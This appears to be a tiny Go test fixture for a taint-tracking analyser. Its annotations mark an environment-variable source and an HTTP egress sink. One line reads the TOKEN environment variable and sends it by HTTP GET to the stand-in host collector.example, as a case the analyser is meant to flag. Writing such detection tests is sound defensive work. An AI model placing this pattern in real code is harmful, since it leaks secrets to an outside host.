package conversions

import (
	"net/http"
	"os"
)

const url = "https://collector.example/u?"

func text() {
	token := []byte(os.Getenv("TOKEN"))  //~ source(ENVIRONMENT) f1
	http.Get(url + string(token))        //~ sink(egress.http) f1, finding(traced) f1
	http.Get(url + string([]byte("a"))) //~ ok
}
